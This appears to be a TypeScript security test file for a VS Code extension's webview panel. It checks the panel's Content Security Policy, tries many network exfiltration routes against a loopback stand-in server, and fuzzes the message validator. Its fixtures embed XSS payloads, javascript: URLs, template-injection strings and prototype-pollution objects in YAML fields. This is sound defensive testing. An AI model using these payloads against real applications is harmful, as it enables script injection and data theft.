// The eligibility panel against hostile input, beyond panel.test.ts: the policy the shell sets, requests the
// page tries to make (the CSP refuses them and request interception proves none left), a verdict scored by
// the real language server from hostile YAML (names, evidence and notes shown as inert, exact text), and
// forged or malformed messages to the extension, which its validator must refuse or copy without extras.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import fc from 'fast-check';
import { contentSecurityPolicy, createNonce, renderPanelHtml } from '../../client/src/panel/html';
import {
  LIMITS,
  validateHostMessage,
  validatePanelState,
  validateWebviewMessage,
} from '../../client/src/panel/validateMessage';
import type { ScoreResult } from '../../server/src/protocol';
import { LspClient } from '../protocol/lspClient';
import { openPanelPage, type PanelPage } from './panelPage';

/** VS Code's webview.cspSource, as a real webview reports it. */
const CSP_SOURCE = 'https://*.vscode-cdn.net';

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter((words) => words[0])
      .map(([name, ...values]) => [name!, values]),
  );
}

describe('the panel shell policy', () => {
  it('allows nothing by default and only the bundle and the nonce for styles, scripts, images and fonts', () => {
    const nonce = createNonce();
    const policy = directives(contentSecurityPolicy(CSP_SOURCE, nonce));
    assert.deepEqual(Object.fromEntries(policy), {
      'default-src': ["'none'"],
      'style-src': [CSP_SOURCE, `'nonce-${nonce}'`],
      'script-src': [`'nonce-${nonce}'`],
      'img-src': [CSP_SOURCE, 'data:'],
      'font-src': [CSP_SOURCE],
      'base-uri': ["'none'"],
      'form-action': ["'none'"],
    });
    // No directive that would let the page reach the network falls back to anything but 'none'.
    for (const name of [
      'connect-src',
      'frame-src',
      'child-src',
      'worker-src',
      'media-src',
      'object-src',
      'manifest-src',
    ])
      assert.equal(policy.has(name), false, name);
    for (const values of policy.values()) {
      for (const value of values)
        assert.doesNotMatch(
          value,
          /^(\*|https?:|'unsafe-inline'|'unsafe-eval'|'unsafe-hashes'|'strict-dynamic'|blob:|filesystem:)$/,
          value,
        );
    }
  });

  it('puts a fresh nonce in every render, and the policy first in <head>', () => {
    const render = () =>
      renderPanelHtml({
        cspSource: CSP_SOURCE,
        nonce: createNonce(),
        scriptUri: 'https://file+.vscode-resource.vscode-cdn.net/w.js',
        styleUri: 'https://file+.vscode-resource.vscode-cdn.net/w.css',
      });
    const nonces = new Set(Array.from({ length: 50 }, () => /script nonce="([^"]+)"/.exec(render())![1]));
    assert.equal(nonces.size, 50);
    const html = render();
    assert.ok(
      html.indexOf('http-equiv="Content-Security-Policy"') < html.indexOf('<link'),
      'the policy comes before anything it governs',
    );
    assert.equal((html.match(/<script/g) ?? []).length, 1);
  });
});

describe('the panel in headless Chromium, attacked', () => {
  let panel: PanelPage;
  let dir: string;
  let server: LspClient;
  let hostile: ScoreResult;

  const page = () => panel.harness.page;
  const remote = (url: string) => !/^(file|data|blob|about):/.test(url);

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'panel-hostile-'));
    writeFileSync(join(dir, 'team.ladder.yaml'), HOSTILE_LADDER);
    writeFileSync(join(dir, 'alex.assessment.yaml'), HOSTILE_ASSESSMENT);
    server = new LspClient();
    await server.initialize(pathToFileURL(dir).href);
    hostile = (await server.connection.sendRequest('ladder/score', {
      uri: pathToFileURL(join(dir, 'alex.assessment.yaml')).href,
    })) as ScoreResult;
    panel = await openPanelPage({ viewport: { width: 1200, height: 900 } });
  });

  after(async () => {
    await panel?.close();
    await server?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  beforeEach(async () => {
    await panel.load();
    panel.resetRecords();
  });

  afterEach(() => {
    assert.deepEqual(panel.harness.pageErrors, [], 'no uncaught error');
    assert.deepEqual(panel.dialogs, [], 'no dialog');
    assert.deepEqual(panel.requests.filter(remote), [], 'no request left the page');
  });

  it('refuses every way the page could reach the network: the CSP blocks each, and nothing reaches a server', async () => {
    // A server on the loopback stands for the attacker's; request interception lets requests to it through,
    // so that only the policy stands between the page and the server.
    const hits: string[] = [];
    const collector = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end('x');
    }).listen(0, '127.0.0.1');
    await once(collector, 'listening');
    const origin = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
    const open = await openPanelPage({ allowOrigins: [origin] });
    try {
      await open.load();
      await open.score(hostile);
      await open.harness.page.evaluate(async (url) => {
        const attempts: Promise<unknown>[] = [
          fetch(`${url}/fetch`).catch(() => undefined),
          import(/* @vite-ignore */ `${url}/module`).catch(() => undefined),
        ];
        const image = new Image();
        image.src = `${url}/img`;
        const frame = document.createElement('iframe');
        frame.src = `${url}/frame`;
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = `${url}/css`;
        const style = document.createElement('style');
        style.textContent = `body { background: url("${url}/css-url"); }`;
        const script = document.createElement('script');
        script.src = `${url}/script`;
        const form = document.createElement('form');
        form.action = `${url}/form`;
        form.method = 'post';
        for (const run of [
          () => {
            const xhr = new XMLHttpRequest();
            xhr.open('GET', `${url}/xhr`);
            xhr.send();
          },
          () => navigator.sendBeacon(`${url}/beacon`, 'x'),
          () => new WebSocket(`${url.replace('http', 'ws')}/socket`),
          () => new EventSource(`${url}/events`),
          () => document.body.append(image, frame, script, form),
          () => document.head.append(link, style),
          () => form.submit(),
          () => new Worker(`${url}/worker`),
        ]) {
          try {
            run();
          } catch {
            // refused at once
          }
        }
        await Promise.all(attempts);
      }, origin);
      const expected = ['connect-src', 'img-src', 'frame-src', 'style-src', 'script-src', 'form-action'];
      const seen = () => [...new Set(open.harness.cspViolations.map((v) => v.effectiveDirective))].sort();
      await open.harness
        .waitFor(() => expected.every((directive) => seen().some((d) => d.startsWith(directive))))
        .catch(() => {
          throw new Error(`violations seen: ${seen().join(', ')}`);
        });
      // Every attempt has been refused by the browser by now (each left its violation).
      assert.deepEqual(hits, [], 'the server heard nothing');
      assert.deepEqual(open.harness.pageErrors, []);
    } finally {
      await open.close();
      collector.close();
    }
  });

  it('shows names, evidence and notes from hostile YAML, scored by the language server, as exact inert text', async () => {
    assert.equal(
      validateHostMessage({ type: 'score', result: hostile, whatIf: {} })?.type,
      'score',
      'the server result passes the validator',
    );
    await panel.score(hostile);
    assert.equal(await page().locator('h1').textContent(), PERSON);
    const row = page().locator('.focus-levels tr').filter({ hasText: COMPETENCY_NAME }).first();
    const details = row.locator('details.evidence');
    await details.locator('summary').click();
    assert.deepEqual(await details.locator('li').allTextContents(), EVIDENCE);
    assert.equal(await details.locator('.note').textContent(), NOTE);
    assert.ok((await page().locator('#app').textContent())!.includes(LEVEL_NAME));
    await assertInert();
  });

  it('posts only messages the extension accepts, revealing only the assessment and its ladder, while the user clicks through', async () => {
    await panel.score(hostile);
    // Open every folded part, the way a user would.
    for (let opened = 0; opened < 100; opened++) {
      const visible = [];
      for (const summary of await page().locator('details:not([open]) > summary').all())
        if (await summary.isVisible()) visible.push(summary);
      if (visible.length === 0) break;
      await visible[0]!.click();
    }
    for (const button of await page().locator('button').all()) {
      if (await button.isVisible()) await button.click();
    }
    let selected = 0;
    for (const select of await page().locator('select').all()) {
      if (selected < 5 && (await select.isVisible())) {
        await select.selectOption({ index: 1 });
        selected++;
      }
    }
    const posted = await panel.posted();
    assert.ok(
      posted.some((m) => m.type === 'reveal') && posted.some((m) => m.type === 'whatIf'),
      JSON.stringify(posted.map((m) => m.type)),
    );
    for (const message of posted) {
      assert.deepEqual(validateWebviewMessage(message), message, 'exactly what the validator keeps');
      if (message.type === 'reveal') assert.ok([hostile.uri, hostile.ladderUri].includes(message.uri), message.uri);
    }
    await assertInert();
  });

  async function assertInert(): Promise<void> {
    const found = await page().evaluate(() => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      elements: document.querySelectorAll(
        'img, iframe, a, b, i, u, style, object, embed, video, audio, form, link:not([rel=stylesheet])',
      ).length,
      scripts: document.scripts.length,
      handlers: [...document.querySelectorAll('*')].filter((element) =>
        [...element.attributes].some((attribute) => attribute.name.startsWith('on')),
      ).length,
      hrefs: [...document.querySelectorAll('[href], [src], [action], [formaction]')]
        .map((element) => element.outerHTML.slice(0, 80))
        .filter((html) => !/^<(link|script)\b/.test(html)),
    }));
    assert.deepEqual(found, { pwned: undefined, elements: 0, scripts: 1, handlers: 0, hrefs: [] });
    assert.deepEqual(panel.harness.cspViolations, [], 'nothing even tried to load');
  }
});

describe('forged and malformed messages to the extension', () => {
  const KNOWN = {
    ready: ['type'],
    applyWhatIf: ['type'],
    reveal: ['type', 'uri', 'range'],
    whatIf: ['type', 'overrides'],
  } as Record<string, string[]>;
  // JSON-shaped values, as a webview's messages arrive: JSON.parse makes `__proto__` an own key.
  const json = fc.jsonValue({ maxDepth: 6 }).map((value) => JSON.parse(JSON.stringify(value)) as unknown);
  const keyish = fc.constantFrom(
    'type',
    'uri',
    'range',
    'overrides',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'start',
    'end',
    'line',
    'character',
  );
  const typeish = fc.oneof(
    fc.constantFrom('ready', 'applyWhatIf', 'reveal', 'whatIf', 'READY', 'eval', 'score', '__proto__', ''),
    fc.string(),
    json,
  );
  const near = fc
    .record(
      {
        type: typeish,
        uri: fc.oneof(
          fc.constantFrom('file:///etc/passwd', 'command:workbench.action.files.save', 'javascript:alert(1)', ''),
          fc.string({ maxLength: 50 }),
          json,
        ),
        range: fc.oneof(
          json,
          fc.record({
            start: fc.record({ line: fc.integer(), character: fc.integer() }),
            end: fc.record({ line: fc.integer(), character: fc.integer() }),
          }),
        ),
        overrides: fc.oneof(
          json,
          fc.dictionary(
            fc.oneof(keyish, fc.string({ maxLength: 8 })),
            fc.oneof(fc.integer(), fc.string({ maxLength: 70 }), fc.constant(null), json),
            { maxKeys: 20 },
          ),
        ),
      },
      { requiredKeys: [] },
    )
    .map((value) => JSON.parse(JSON.stringify(value)) as unknown);
  const withProto = fc
    .tuple(
      near,
      fc.constantFrom(
        '{"__proto__": {"type": "applyWhatIf"}}',
        '{"type": "whatIf", "overrides": {"__proto__": 1}}',
        '{"type": "whatIf", "overrides": {"constructor": {"prototype": {"polluted": 1}}}}',
      ),
    )
    .map(([, text]) => JSON.parse(text) as unknown);
  const message = fc.oneof(json, near, withProto);

  it('never throws, and returns either nothing or a fresh copy of a known message with only its fields', () => {
    fc.assert(
      fc.property(message, (value) => {
        const result = validateWebviewMessage(value);
        if (result === undefined) return;
        assert.notEqual(result, value);
        assert.deepEqual(Object.keys(result).sort(), [...KNOWN[result.type]!].sort());
        assert.deepEqual(JSON.parse(JSON.stringify(result)), result, 'plain data');
        if (result.type === 'whatIf') {
          assert.notEqual(result.overrides, (value as { overrides: unknown }).overrides);
          assert.ok(Object.keys(result.overrides).length <= LIMITS.overrides);
          assert.equal(Object.getPrototypeOf(result.overrides), Object.prototype, 'the prototype is not replaced');
          assert.deepEqual(
            Object.keys(result.overrides),
            Object.keys((value as { overrides: object }).overrides),
            'every id is kept, `__proto__` too',
          );
          for (const rating of Object.values(result.overrides)) {
            assert.ok(
              rating === null ||
                (typeof rating === 'number' && Number.isFinite(rating)) ||
                (typeof rating === 'string' && rating.length > 0 && rating.length <= LIMITS.scaleIdLength),
            );
          }
        }
        if (result.type === 'reveal') {
          assert.ok(result.uri.length > 0 && result.uri.length <= LIMITS.uriLength);
          const { start, end } = result.range;
          assert.ok(
            Number.isInteger(start.line) &&
              start.line >= 0 &&
              (start.line < end.line || (start.line === end.line && start.character <= end.character)),
          );
        }
      }),
      { seed: 20261123, numRuns: 3_000 },
    );
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
    assert.equal(({} as Record<string, unknown>)['type'], undefined);
  });

  it('refuses a message whose fields come from its prototype, and a what-if inherited through __proto__', () => {
    assert.equal(validateWebviewMessage(Object.create({ type: 'applyWhatIf' })), undefined);
    assert.equal(validateWebviewMessage(JSON.parse('{"__proto__": {"type": "applyWhatIf"}}')), undefined);
    assert.equal(
      validateWebviewMessage({ type: 'whatIf', overrides: JSON.parse('{"__proto__": {"mentoring": 1}}') }),
      undefined,
    );
    assert.equal(
      validateWebviewMessage(
        new (class Ready {
          type = 'ready';
        })(),
      ),
      undefined,
      'not a plain object',
    );
    const nullProto = Object.assign(Object.create(null), { type: 'ready', extra: 'dropped' });
    assert.deepEqual(validateWebviewMessage(nullProto), { type: 'ready' });
  });

  it('stays bounded on huge messages: long strings, many keys, deep nesting', () => {
    let deep: unknown = { line: 0, character: 0 };
    for (let i = 0; i < 100_000; i++) deep = { start: deep, end: deep };
    [
      { type: 'x'.repeat(10_000_000) },
      {
        type: 'reveal',
        uri: 'f'.repeat(10_000_000),
        range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
      },
      { type: 'reveal', uri: 'file:///a', range: deep },
      { type: 'whatIf', overrides: Object.fromEntries(Array.from({ length: 200_000 }, (_, i) => [`c${i}`, 1])) },
      {
        type: 'whatIf',
        overrides: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`c${i}`, 'x'.repeat(1_000_000)])),
      },
      { type: 'whatIf', overrides: new Array(1_000_000).fill(1) },
    ].forEach((value, index) => {
      // Processor time, not wall time: the machine may be busy with other work.
      const started = process.cpuUsage();
      assert.equal(validateWebviewMessage(value), undefined, `message ${index}`);
      const used = process.cpuUsage(started);
      const ms = (used.user + used.system) / 1000;
      assert.ok(ms < 500, `message ${index} took ${ms.toFixed(0)} ms of processor time`);
    });
  });

  it('restores a panel only from a saved state it can trust', () => {
    fc.assert(
      fc.property(fc.oneof(json, near), (value) => {
        const state = validatePanelState(value);
        if (state === undefined) return;
        assert.deepEqual(Object.keys(state).sort(), ['uri', 'whatIf']);
        assert.equal(typeof state.uri, 'string');
      }),
      { seed: 20261124, numRuns: 1_000 },
    );
  });

  it('never throws on anything the host could be sent to show', () => {
    fc.assert(
      fc.property(
        fc.oneof(json, near, fc.record({ type: fc.constant('score'), result: json, whatIf: json })),
        (value) => void validateHostMessage(value),
      ),
      { seed: 20261125, numRuns: 1_000 },
    );
  });
});

// Hostile text in a ladder and an assessment that are valid YAML with valid ids, so the server scores them.
const PERSON = '<img src=x onerror="window.__pwned=1">\u202eAlex';
const LEVEL_NAME = '<script>window.__pwned=2</script>One';
const COMPETENCY_NAME = '<a href="javascript:window.__pwned=3">Writing</a>';
const EVIDENCE = [
  'javascript:window.__pwned=4',
  '<img src=https://203.0.113.7/x.png onerror=window.__pwned=5>',
  '[click](https://203.0.113.7/phish) ![x](https://203.0.113.7/x.png)',
  '</details></td></tr></table><iframe src=https://203.0.113.7/></iframe>',
  '{{constructor.constructor("window.__pwned=6")()}}',
];
const NOTE = `<style>body{display:none}</style>${'\u200b'.repeat(3)}${'long note '.repeat(1_000)}`;

const HOSTILE_LADDER = `kind: Ladder
id: team
name: ${JSON.stringify('</title><script>window.__pwned=7</script>')}
description: ${JSON.stringify('<svg onload=window.__pwned=8>')}
scale:
  - {id: 1, name: ${JSON.stringify('<b onmouseover=window.__pwned=9>Learning</b>')}}
  - {id: 2, name: Practising}
competencies:
  - id: writing
    name: ${JSON.stringify(COMPETENCY_NAME)}
    description: ${JSON.stringify('<img src=x onerror=window.__pwned=10>')}
    descriptors: {1: ${JSON.stringify('<u>one</u>')}, 2: ${JSON.stringify('javascript:void(0)')}}
checks:
  - {id: review, name: ${JSON.stringify('<object data=https://203.0.113.7/>')}}
tracks: [{id: ic, name: ${JSON.stringify('<i>IC</i>')}}]
levels:
  - id: one
    name: ${JSON.stringify(LEVEL_NAME)}
    track: ic
    rank: 1
    expectations: {writing: 1}
    next: [two]
  - id: two
    name: Two
    track: ic
    rank: 2
    expectations: {writing: 2}
    requirements:
      - id: review-done
        description: ${JSON.stringify('<a href=https://203.0.113.7/>see</a>')}
        check: review
`;

const HOSTILE_ASSESSMENT = `kind: SelfAssessment
ladder: team.ladder.yaml
person: ${JSON.stringify(PERSON)}
date: 2026-11-01
level: one
since: 2025-01-01
ratings:
  writing:
    rating: 1
    evidence: ${JSON.stringify(EVIDENCE)}
    note: ${JSON.stringify(NOTE)}
checks: {review: pending}
`;
